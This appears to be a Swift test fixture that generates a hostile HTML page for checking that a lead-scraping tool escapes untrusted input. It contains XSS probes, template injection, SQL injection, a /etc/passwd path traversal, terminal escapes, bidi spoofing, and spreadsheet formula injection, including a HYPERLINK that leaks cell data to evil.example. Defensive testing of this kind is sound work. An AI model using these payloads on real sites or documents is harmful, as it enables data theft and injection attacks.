/// A page that attacks whatever shows its parts: reports, terminals, spreadsheets and templates. Its payloads do no harm
/// where they are escaped.
struct HostilePage: Sendable {
  let business: SampleBusiness
  let url: String
  /// Three variants share the payloads; the second nests 300 levels deep, the third has a tag with 3,000 attributes.
  let variant: Int

  static let title = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)> {{name}} {{{name}}} \u{202E}gnp.exe\u{202C}"

  var html: String {
    """
    <!doctype html>
    <html lang="en\"><b>">
    <head><meta charset="utf-8">
    <title>\(Self.title)</title>
    <meta name="viewport" content="width=device-width">
    <meta name="description" content="&quot;&gt;&lt;script&gt;alert('description')&lt;/script&gt; {{{description}}} ${7*7} <%= 7*7 %>">
    <meta property="og:title" content='" onmouseover="alert(3)" x="'>
    <link rel="canonical" href="javascript:alert('canonical')">
    <script type="application/ld+json">{"@type":"LocalBusiness","name":"</scr\\u0069pt><script>alert(4)//","telephone":"=1+1"</script>
    </head>
    <body onload="alert('load')" onerror='alert("error")'>
    <main>
    <h1>=HYPERLINK("http://evil.example/?leak="&amp;A1,"Click")</h1>
    <h2>@SUM(1+9)*cmd|' /C calc'!A0</h2>
    <p>Terminal: \u{1B}[2J\u{1B}]0;owned\u{07}\u{1B}[31mred\u{1B}[0m and a backspace \u{08}.</p>
    <p>Direction: \u{202E}drow desrever\u{202C}, zero\u{200B}width, \u{FEFF}mark, line\u{2028}separator.</p>
    <p>Template: {{#each leads}}{{{secret}}}{{/each}} {%raw%} \\u003cscript\\u003e %3Cscript%3E &#x3C;script&#x3E;</p>
    <a href="javascript:alert(document.cookie)" onclick="alert('click')">\(business.name.escapedForHTML)</a>
    <a href="data:text/html,<script>alert(5)</script>">data</a>
    <img src="x" alt='"><svg onload=alert(6)>' onerror="alert(7)">
    <iframe srcdoc="<script>alert(8)</script>"></iframe>
    <form action="javascript:alert(9)"><input name="'; DROP TABLE leads; --" value="../../etc/passwd"></form>
    <!-- --><script>alert(10)</script><!-- -->
    \(special)
    <p>Call \(business.phone)</p>
    </main></body></html>

    """
  }

  private var special: String {
    switch variant % 3 {
    case 1: String(repeating: "<div>", count: 300) + "<p>Deep: \(business.phone)</p>" + String(repeating: "</div>", count: 300)
    case 2: "<p " + (0..<3_000).map { "a\($0)=\"\($0)\"" }.joined(separator: " ") + ">Many attributes</p>"
    default: "<p>\(String(repeating: "A", count: 5_000))</p>"
    }
  }
}
